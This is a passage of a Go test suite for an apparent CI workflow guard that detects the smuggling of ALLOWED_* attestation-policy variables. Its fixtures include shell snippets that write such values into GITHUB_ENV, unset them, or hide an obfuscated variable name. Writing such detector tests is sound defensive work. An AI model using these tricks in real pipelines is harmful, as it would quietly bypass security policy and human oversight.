			"docker/policy.json": `{"allowed_mrtd": ["00"], "allowed_tcb_status": ["UpToDate"]}`},
		"a Makefile": {
			"Makefile": "# no ALLOWED_MRTD\nallowed = x\nexport PATH := $(PATH):bin\nall:\n\tgo tool mage\n"},
		"expressions in arithmetic": run("n=$(( ${{ matrix.n }} + 1 ))", "case ${{ matrix.p }} in a) ;; *) exit 1 ;; esac"),
		"an address of the policy": steps(
			"      - run: mage x\n        env: {URL: \"https://example.org/?allowed_mrtd=1\"}\n"),
		"the guard itself, by its id": run("go tool mage guard:selftest guard:docs \"$BASE\""),

		"a script that names each":      run("for v in $(compgen -e | grep ^ALLOWED_); do echo \"$v: ${!v}\" >&2; done"),
		"a script that unsets all":      run("unset $(env | grep ^ALLOWED_ | cut -d= -f1)"),
		"keys and names by a beginning": run("for k in \"${!a[@]}\"; do echo \"$k\"; done\nunset \"${!GIT_@}\""),
		"a variable by its name":        run("x=$(printenv HOME)\nmage \"$x\""),
		"files by a pattern": run(
			"rm -f dist/*.tmp\nfor f in dist/*; do cat \"$f\" >> \"$GITHUB_STEP_SUMMARY\"; done"),
		"a document for a shell": run("bash -euo pipefail -s a b <<'EOF'\necho \"$1\"\nEOF"),
		"a file for a shell": run("bash < scripts/lib.sh\nbash -eu scripts/lib.sh\nbash -o pipefail scripts/lib.sh").
			and("scripts/lib.sh", "greet() { echo hello; }\n"),
		"a folder gone to":              run("cd tools && ./release").and("tools/release", "#!/bin/sh\necho hello\n"),
		"a folder of the script's own":  run("cd \"$(dirname \"$0\")/..\"\ndir=$(dirname \"$(readlink -f \"$0\")\")"),
		"a pipe to something else":      run("git log | sort | uniq -c", "cat x | sh -c 'wc -l'"),
		"a script that seeks the name":  run("env | grep -q '^ALLOWED_MRTD=' && exit 1"),
		"a document's other end":        run("cat >> \"$GITHUB_ENV\" <<'END'\nA=1\nEND"),
		"a part of a value":             run(`echo "A=${GITHUB_SHA:0:7}" >> "$GITHUB_ENV"`),
		"lines of a child":              run(`( echo A=1; echo B=2 ) >> "$GITHUB_ENV"`),
		"GITHUB_ENV is shown, and more": run(`if [ -s "$GITHUB_ENV" ]; then cat "$GITHUB_ENV"; mage x; fi`),
	}
}

func TestAllowedFindsSmuggling(t *testing.T) {
	t.Parallel()
	for name, files := range smuggling() {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			require.Equal(t, fault.Verification, fault.CodeOf(files.judged(t).Err()), "%v", files)
		})
	}
}

func TestAllowedRefusesNoInnocent(t *testing.T) {
	t.Parallel()
	for name, files := range innocent() {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			r := files.judged(t)
			require.True(t, r.OK(), "%s\n%v", r.Got, files)
		})
	}
}

func TestAllowedAcceptsThisRepository(t *testing.T) {
	t.Parallel()
	files, err := guard.Workflows(os.DirFS("../../.."))
	require.NoError(t, err)
	r := guard.Allowed(nil, files)[1]
	require.Equal(t, check.Passed, r.Status, r.Got)
}

// What cannot be read is refused in words that say so, and named by what it is.
func TestAllowedSaysWhatItCannotJudge(t *testing.T) {
	t.Parallel()
	for name, files := range map[string]tree{
		"not YAML":        {path: "on: push\njobs: [\n"},
		"no jobs":         {path: "on: push\njobs: 3\n"},
		"not a script":    run("if then fi ("),
		"another shell":   steps("      - shell: pwsh\n        run: Write-Output hello\n"),
		"a computed name": run(`export "$NAME=x"`),
		"an open value":   run(`cat x >> "$GITHUB_ENV"`),
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			r := files.judged(t)
			require.Equal(t, fault.Verification, fault.CodeOf(r.Err()))
			require.Contains(t, r.Got, "cannot be judged: ")
			require.Contains(t, r.Reason, "cannot be judged")
			require.NotContains(t, r.Reason, "ALLOWED")
			require.NotContains(t, r.Hint, "remove the variable")
		})
	}
}

// A step for another shell does not switch the rules off for the steps beside it.
func TestAllowedJudgesEachStepByItsShell(t *testing.T) {
	t.Parallel()
	const bash = "      - run: cat policy.env >> \"$GITHUB_ENV\"\n      - run: export AL\"LOWED\"_MRTD=00; go tool mage " +
		"release:kms\n"
	for _, files := range []tree{
		steps("      - shell: pwsh\n        run: Write-Output hello\n" + bash),
		{path: "name: release (not for Windows)\n" + jobHead + "    steps:\n" + bash},
	} {
		r := files.judged(t)
		require.Equal(t, check.Failed, r.Status)
		require.Contains(t, r.Got, "GITHUB_ENV")
		require.Contains(t, r.Got, "ALLOWED_MRTD")
	}
}
